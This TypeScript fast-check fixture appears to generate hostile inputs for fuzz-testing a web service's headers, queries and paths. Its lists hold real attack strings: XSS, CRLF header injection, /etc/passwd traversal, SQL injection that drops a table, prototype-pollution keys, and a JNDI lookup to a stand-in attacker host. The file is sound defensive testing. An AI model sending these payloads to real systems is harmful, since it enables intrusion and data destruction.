// Words that somebody who means harm would try, and what headers, paths and bytes are made of them.
import fc from 'fast-check'

/** Stands in most hostile words, so that an answer which repeats one shows. */
export const CANARY = 'k4n4ri3'

/** Texts that other programs stumbled over. Every one that could be repeated carries the canary. */
export const NASTY: readonly string[] = [
  `<script>alert('${CANARY}')</script>`,
  `"><img src=x onerror=alert('${CANARY}')>`,
  `"onmouseover="${CANARY}`,
  `javascript:${CANARY}`,
  `\r\nSet-Cookie: ${CANARY}=1\r\n\r\n<b>`,
  `../../../../etc/passwd#${CANARY}`,
  `..\\..\\windows\\${CANARY}`,
  `//evil.example/${CANARY}`,
  `https://evil.example/${CANARY}`,
  `blob:http://bugbridge.invalid//evil.example/${CANARY}`,
  `\u202e${CANARY}\u2066\u202d`,
  `{{7*7}}\${7*7}<%= 7*7 %>#{7*7}${CANARY}`,
  `\${jndi:ldap://evil.example/${CANARY}}`,
  `' or 1=1; drop table cases; -- ${CANARY}`,
  `zendesk-35436' or '1'='1`,
  `${CANARY}\0after`,
  `\ufeff${CANARY}\ud800\udfff\ufffe`,
  'x'.repeat(3_000) + CANARY,
  '%00%0d%0aX-Evil:%201',
  '%c0%ae%c0%ae%2f',
  '__proto__',
  'constructor',
  'constructor[prototype][evil]',
  'toString',
  '-1',
  '1e3',
  '9'.repeat(40),
  'NaN',
  '',
]

export const nasty: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }).map((text) => text + CANARY) },
  { weight: 1, arbitrary: fc.string({ maxLength: 12 }) },
)

/** What may stand in a header at all, so that it gets as far as the program. */
export const headerText: fc.Arbitrary<string> = nasty.map((text) =>
  text.replace(/[^\x20-\x7e\xa0-\xff]/g, '~').trim(),
)

/** Headers that a program might listen to, and none of which changes who somebody is. */
const NOISE = [
  'accept',
  'content-type',
  'content-encoding',
  'content-disposition',
  'user-agent',
  'origin',
  'referer',
  'range',
  'if-none-match',
  'x-http-method-override',
  'x-original-url',
  'x-rewrite-url',
  'x-forwarded-proto',
  'x-forwarded-prefix',
  'x-requested-with',
  'sentry-hook-resource',
  'request-id',
  'x-atlassian-webhook-identifier',
  '__proto__',
  'constructor',
] as const

type Pair = readonly [string, string]

export const noise: fc.Arbitrary<readonly Pair[]> = fc.array(
  fc.tuple(fc.constantFrom(...NOISE), headerText),
  { maxLength: 3 },
)

/** A query of parameters that are known and that are not. */
export const query: fc.Arbitrary<string> = fc
  .array(
    fc.tuple(
      fc.constantFrom('limit', 'after', 'group', 'next', 'step', 'id', '__proto__', 'constructor', 'limit[]'),
      fc.oneof(
        nasty,
        fc.integer({ min: -5, max: 600 }).map(String),
        fc.constantFrom('zendesk-35436', 'done'),
      ),
      fc.boolean(),
    ),
    { maxLength: 3 },
  )
  .map((parts) =>
    parts.map(([name, value, isEncoded]) => `${name}=${isEncoded ? encoded(value) : plain(value)}`).join('&'),
  )

/** Percent-encoded, lone halves of surrogate pairs and all. */
export function encoded(text: string): string {
  return encodeURIComponent(text.toWellFormed())
}

/** As it stands, but for what would end the request target. */
function plain(text: string): string {
  return text.replace(/[^\x21-\x7e]|#/g, '')
}

/** Pieces that turn one path into another, or try to. */
const DETOURS = [
  '/',
  '//',
  '/.',
  '/..',
  '/%2e%2e',
  '/%2E%2e/metrics',
  '/..;/metrics',
  '/..%2fmetrics',
  '/%2fmetrics',
  '%00',
  '%',
  '%0a',
  '%0d%0aX:1',
  '%c0%af',
  '\\',
  ';x=1',
  '.json',
  '/../../../../etc/passwd',
  '/__proto__',
  '/constructor',
  '\u00ff',
  `/${CANARY}`,
]

/** A path with a detour somewhere in it, or with letters in another case. */
export function detours(path: string): fc.Arbitrary<string> {
  return fc.oneof(
    fc
      .tuple(fc.constantFrom(...DETOURS), fc.nat(path.length))
      .map(([detour, at]) => `/${path.slice(0, at)}${detour}${path.slice(at)}`.replace(/^\/\//, '/')),
    fc.constant(path.toUpperCase()),
    nasty.map((text) => `${path.replace(/\/$/, '')}/${encoded(text)}`),
  )
}

/** A random change of bytes: some taken out, some put in, at up to three places. Never none. */
export function editsOf(bytes: Uint8Array): fc.Arbitrary<Uint8Array> {
  const edit = fc.record({
    at: fc.nat(bytes.length),
    out: fc.nat(3),
    put: fc.uint8Array({ maxLength: 3 }),
  })
  return fc
    .array(edit, { minLength: 1, maxLength: 3 })
    .map((list) =>
      list.reduce<Uint8Array>(
        (now, { at, out, put }) =>
          new Uint8Array(Buffer.concat([now.subarray(0, at), put, now.subarray(at + out)])),
        bytes,
      ),
    )
    .filter((edited) => !Buffer.from(edited).equals(bytes))
}

/** The same for what stands in a header. */
export function editsOfText(text: string): fc.Arbitrary<string> {
  return editsOf(new Uint8Array(Buffer.from(text)))
    .map((bytes) =>
      Buffer.from(bytes)
        .toString('latin1')
        .replace(/[^\x21-\x7e]/g, '~'),
    )
    .filter((edited) => edited !== text)
}
